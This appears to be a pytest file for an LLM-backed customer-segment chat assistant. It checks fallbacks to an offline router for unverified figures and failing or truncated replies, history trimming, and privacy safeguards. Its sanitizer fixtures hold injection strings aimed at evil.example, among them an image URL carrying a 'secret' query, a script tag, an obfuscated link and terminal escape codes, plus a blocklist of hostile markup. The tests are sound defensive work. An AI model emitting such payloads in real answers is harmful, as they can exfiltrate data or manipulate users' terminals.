"""A chat session around the tool loop: what the answer may say and what the model is sent.

Covers the fallbacks (an answer with no tool call, a number no tool returned, a figure next
to the wrong persona: the router answers with a note, nothing unchecked is streamed), links,
images, HTML and terminal escapes removed from the answer, a failing model (401, 500, hang,
failure after a tool round, a cut-off, unfinished or empty answer) replaced by the offline
router with a note, the history carried between questions, kept per session and trimmed to
its token budget, requests that hold no customer ID and small counts that reach the model
only as "fewer than 11", and the offline path (no key or base URL, an empty question). The
prompt budget is in tests/test_chat_budget.py. Set-up comes from tests/_chat_cases.py.
"""

from __future__ import annotations

import json
import logging
import re

import pytest

from assistant.answers import ChatAnswer
from assistant.chat import ChatSession, sanitize_markdown
from assistant.llm import LLMSettings
from assistant.tools import Toolbox
from tests import _chat_cases
from tests._chat_cases import RANK_INCOME, online, tool_messages, top_income

# The demo-model fixtures from tests/_chat_cases.py, bound here so pytest finds them.
bundle = _chat_cases.bundle
ctx = _chat_cases.ctx
frame = _chat_cases.frame
personas = _chat_cases.personas


HOSTILE = ("http", "www.", "![", "](", "<img", "<script", "<a ", "<iframe")


# -- numbers: checked with their attribution, or the router answers ----------------------------
def test_a_figure_next_to_the_wrong_persona_falls_back(ctx, fake_llm):
    top, income = top_income(ctx)  # the highest income belongs to `top`
    other, _ = top_income(ctx, rank=4)
    fake_llm.script = [RANK_INCOME, {"text": f"{other} has the highest income: {income}."}]
    parts = list(online(ctx, fake_llm).stream("Which segment has the highest income?"))
    answer = parts[-1]
    assert parts == [answer]  # nothing of the draft was streamed
    assert answer.writer == "router" and other not in answer.text.split("\n")[0]
    assert f"'{income}' is not a figure the tools gave to {other} (income)" in answer.note
    assert "answered by the offline assistant" in answer.note
    assert "[unverified]" not in answer.text


def test_the_same_figure_next_to_its_own_persona_is_shown(ctx, fake_llm):
    top, income = top_income(ctx)
    fake_llm.script = [RANK_INCOME, {"text": f"{top} has the highest income: {income}."}]
    answer = online(ctx, fake_llm).ask("Which segment has the highest income?")
    read, text = answer.text.split("\n\n", 1)
    assert answer.writer == "m" and text == f"{top} has the highest income: {income}."
    assert read.startswith("Read as: personas by mean income")  # how the model read it


def test_figures_of_two_personas_swapped_fall_back(ctx, fake_llm):
    (a, first), (b, second) = top_income(ctx), top_income(ctx, rank=1)
    fake_llm.script = [RANK_INCOME, {"text": f"{a} earns {second} on average, while {b} "
                                             f"earns {first}."}]  # fmt: skip
    answer = online(ctx, fake_llm).ask("Compare the two richest personas")
    assert answer.writer == "router"
    assert f"'{second}' is not a figure the tools gave to {a}" in answer.note


def test_a_figure_under_the_wrong_metric_falls_back(ctx, fake_llm):
    top, income = top_income(ctx)
    fake_llm.script = [RANK_INCOME, {"text": f"{top} spends {income} on wine."}]
    answer = online(ctx, fake_llm).ask("Who spends most on wine?")
    assert answer.writer == "router" and f"'{income}' is not a figure" in answer.note


def test_a_number_no_tool_returned_falls_back(ctx, fake_llm):
    name, income = top_income(ctx)
    fake_llm.script = [
        RANK_INCOME,
        {"text": f"{name} earns {income} on average, and 73% of them own a boat."},
    ]
    answer = online(ctx, fake_llm).ask("Who earns most?")
    assert answer.writer == "router" and "'73%'" in answer.note
    assert "73%" not in answer.text and "[unverified]" not in answer.text


@pytest.mark.parametrize(
    "text", ["About 42% respond, with an average income of $61,000.", "Hello! Ask me anything."]
)
def test_an_answer_without_a_tool_call_falls_back(ctx, fake_llm, text):
    fake_llm.script = [{"text": text}]
    parts = list(online(ctx, fake_llm).stream("What is the response rate?"))
    answer = parts[-1]
    assert parts == [answer] and answer.writer == "router"
    assert "without a tool call" in answer.note and text not in answer.text


def test_numbers_the_tools_returned_are_shown_as_written(ctx, fake_llm):
    name, income = top_income(ctx)
    fake_llm.script = [
        {"tool": "list_segments", "args": {}},
        RANK_INCOME,
        {"text": f"There are 5 segments and 1,500 customers. {name} earns most: {income}."},
    ]
    answer = online(ctx, fake_llm).ask("Overview please")
    assert answer.writer == "m" and answer.unverified == [] and answer.note is None


# -- sanitizing --------------------------------------------------------------------------------
MARKUP = [
    ("See [our site](http://evil.example/x) for more.", "See our site for more."),
    ("Segments ![chart](http://evil.example/p.png?q=secret) below.", "Segments  below."),
    ('Look <img src="http://evil.example/p.png"> here.', "Look  here."),
    ("Hi <script>document.location='x'</script>there.", "Hi document.location='x'there."),
    ("Visit www.evil.example today.", "Visit (link removed) today."),
    ("A [ref] link.\n\n[ref]: http://evil.example", "A [ref] link."),
    ('<a href="https://evil.example">Click</a> me.', "Click me."),
    ("Go to h\u200bttp://evil.example now.", "Go to (link removed) now."),
    ("Hi \x1b[2Jthere \x1b]8;;http://evil.example\x07link\x1b]8;;\x07.", "Hi there link."),
    ("Plain **bold** text stays.", "Plain **bold** text stays."),
]


@pytest.mark.parametrize(("text", "clean"), MARKUP, ids=[c for _, c in MARKUP])
def test_links_images_and_html_of_the_final_text_are_removed(ctx, fake_llm, text, clean):
    fake_llm.script = [{"tool": "list_segments", "args": {}}, {"text": text}]
    *fragments, answer = online(ctx, fake_llm).stream("Where can I read more?")
    read, shown = answer.text.split("\n\n", 1)
    assert read == "Read as: the list of personas" and shown == clean == sanitize_markdown(text)
    assert fragments == [answer.text]  # only the checked, sanitized text is streamed
    assert not any(mark in answer.text for mark in HOSTILE), answer.text


# -- faults ------------------------------------------------------------------------------------
FAULTS = [
    ({"status": 401}, 5, "refused the API key (401)"),
    ({"status": 500}, 5, "server error (500)"),
    ({"hang": 5}, 0.5, "gave no answer within 0.5 s"),
]


@pytest.mark.parametrize(("step", "timeout", "reason"), FAULTS, ids=["401", "500", "hang"])
def test_a_failing_model_is_replaced_by_the_router_with_a_note(
    ctx, fake_llm, caplog, step, timeout, reason
):
    fake_llm.script = [step]
    with caplog.at_level(logging.DEBUG):
        answer = online(ctx, fake_llm, timeout=timeout).ask("Which segment has the highest income?")
    assert answer.writer == "router" and answer.text
    assert reason in answer.note and "answered by the offline assistant" in answer.note
    assert "Traceback" not in answer.text + answer.note
    assert not [r for r in caplog.records if r.exc_info]


def test_a_failure_after_a_tool_round_falls_back_too(ctx, fake_llm):
    fake_llm.script = [{"tool": "rank_segments", "args": {"metric": "income"}}, {"status": 500}]
    answer = online(ctx, fake_llm).ask("Which segment has the highest income?")
    assert answer.writer == "router" and "server error (500)" in answer.note


@pytest.mark.parametrize(
    ("step", "reason"),
    [
        ({"text": "The segment with", "finish": "length"}, "cut off at max_tokens=400"),
        ({"text": "The segment with the highest", "finish": None}, "no finish reason"),
        ({"text": "The segment with the highest", "drop": True}, "no finish reason"),
    ],
    ids=["length", "no-finish-reason", "dropped-stream"],
)
def test_a_truncated_answer_is_never_shown_as_complete(ctx, fake_llm, step, reason):
    fake_llm.script = [RANK_INCOME, step]
    parts = list(online(ctx, fake_llm).stream("Which segment has the highest income?"))
    answer = parts[-1]
    assert parts == [answer] and answer.writer == "router"
    assert reason in answer.note and "The segment with" not in answer.text


def test_a_truncated_tool_call_is_not_run(ctx, fake_llm):
    fake_llm.script = [{**RANK_INCOME, "finish": None}]
    answer = online(ctx, fake_llm).ask("Which segment has the highest income?")
    assert len(fake_llm.requests) == 1 and answer.writer == "router"
    assert "no finish reason" in answer.note


def test_an_empty_model_answer_falls_back(ctx, fake_llm):
    fake_llm.script = [{"text": ""}]
    answer = online(ctx, fake_llm).ask("Which segment has the highest income?")
    assert answer.writer == "router" and "empty answer" in answer.note


def test_the_request_caps_the_reply_at_400_tokens(ctx, fake_llm):
    fake_llm.script = [{"text": "Hi."}]
    online(ctx, fake_llm).ask("hi")
    assert fake_llm.requests[0]["max_tokens"] == 400


# -- history -----------------------------------------------------------------------------------
def listed(body):
    """The fake model: a list_segments call for a question, then a short answer."""
    if body["messages"][-1]["role"] == "user":
        return {"tool": "list_segments", "args": {}}
    return {"text": "There are 5 segments."}


def test_the_second_question_carries_the_first_question_and_answer(ctx, fake_llm):
    fake_llm.responder = listed
    session = online(ctx, fake_llm)
    session.ask("Which segment buys the most wine?")
    session.ask("And the least?")
    first, second = fake_llm.requests[0], fake_llm.requests[2]
    assert [m["role"] for m in second["messages"]] == ["system", "user", "assistant", "user"]
    assert second["messages"][1:] == [
        {"role": "user", "content": "Which segment buys the most wine?"},
        {"role": "assistant", "content": "There are 5 segments."},
        {"role": "user", "content": "And the least?"},
    ]
    assert second["messages"][0] == first["messages"][0]


def test_two_sessions_do_not_share_history(ctx, fake_llm):
    alice, bob = online(ctx, fake_llm), online(ctx, fake_llm)
    alice.ask("Tell me about the wine lovers")
    bob.ask("Which segment is largest?")
    bob_request = fake_llm.requests[-1]
    assert [m["role"] for m in bob_request["messages"]] == ["system", "user"]
    assert "wine lovers" not in json.dumps(bob_request)
    assert len(alice.history) == len(bob.history) == 2


def test_history_is_trimmed_to_the_token_budget(ctx, fake_llm):
    fake_llm.responder = listed
    session = online(ctx, fake_llm, history_tokens=30)  # about 120 characters: one exchange
    questions = [f"Question {word}: which segment spends most on {word} products?"
                 for word in ("alpha", "beta", "gamma")]  # fmt: skip
    for question in questions:
        session.ask(question)
        assert sum(len(m["content"]) for m in session.history) / 4 <= 30
    last = json.dumps(fake_llm.requests[-2]["messages"])  # the last question's first request
    assert questions[0] not in last and questions[1] in last and questions[2] in last
    assert [m["content"] for m in session.history[::2]] == [questions[2]]


# -- privacy -----------------------------------------------------------------------------------
def test_requests_hold_no_customer_id(ctx, fake_llm, frame):
    fake_llm.script = [
        {
            "tools": [
                {"tool": "list_segments", "args": {}},
                {"tool": "describe_segment", "args": {"segment": "0"}},
                {"tool": "query", "args": {"where": [
                    {"field": "income", "op": ">", "value": 60000}]}},
                {"tool": "assign_customer", "args": {"income": 60000, "age": 45, "kidhome": 2}},
                {"tool": "query", "args": {"by": ["persona"], "show": "table"}},
                {"tool": "campaign_ideas", "args": {"segment": "1"}},
                {"tool": "query", "args": {"where": [{"field": "ID", "op": ">", "value": 0}]}},
            ]
        },
        {"text": "Here is the overview."},
    ]  # fmt: skip
    online(ctx, fake_llm).ask("Give me everything, including customer IDs")
    blob = json.dumps(fake_llm.requests)
    ids = set(frame["ID"].astype(int).astype(str))
    assert set(re.findall(r"\d{5,}", blob)) & ids == set()
    contents = [m["content"] for m in tool_messages(fake_llm.requests[-1])]
    assert len(contents) == 7 and not any(c.startswith("Error") for c in contents[:-1])
    assert contents[-1].startswith("Error: this model has no metric or attribute 'ID'")


def test_a_small_count_reaches_the_model_as_fewer_than_11(ctx, fake_llm, bundle, frame):
    labels = bundle.segmenter.labels_
    i, level = next(
        (i, level)
        for i in range(5)
        for level in ("Basic", "2n Cycle", "Master", "PhD")
        if 1 < ((labels == i) & (frame.Education == level)).sum() < 11
    )
    n = int(((labels == i) & (frame.Education == level)).sum())
    args = {"personas": [str(i)], "where": [{"field": "education", "op": "==", "value": level}]}
    truth = Toolbox(ctx).query(**args)
    fake_llm.script = [
        {"tool": "query", "args": args},
        {"text": f"Fewer than 11 customers with a {level} degree are in that segment."},
    ]
    answer = online(ctx, fake_llm).ask(f"How many {level} customers are in segment {i}?")
    (message,) = tool_messages(fake_llm.requests[1])
    assert message["content"] == truth.text
    assert "fewer than 11" in message["content"].lower()
    stated = re.sub(r"\(segment \d\)|1,500|\b11\b", "", message["content"])
    assert not re.search(rf"(?<![\d,.]){n}(?![\d,.])", stated), message["content"]
    assert answer.writer == "m" and answer.unverified == []


# -- offline -----------------------------------------------------------------------------------
def test_without_key_or_base_url_the_router_answers(ctx, fake_llm):
    session = ChatSession(ctx, LLMSettings())
    assert session.writer == "offline"
    name, _ = top_income(ctx)
    answer = session.ask("Which segment has the highest income?")
    assert isinstance(answer, ChatAnswer) and answer.writer == "router"
    assert name in answer.text
    assert fake_llm.requests == []


def test_an_empty_question_gets_a_prompt_not_a_request(ctx, fake_llm):
    answer = online(ctx, fake_llm).ask("   ")
    assert answer.text == "Please type a question about your segments."
    assert fake_llm.requests == []
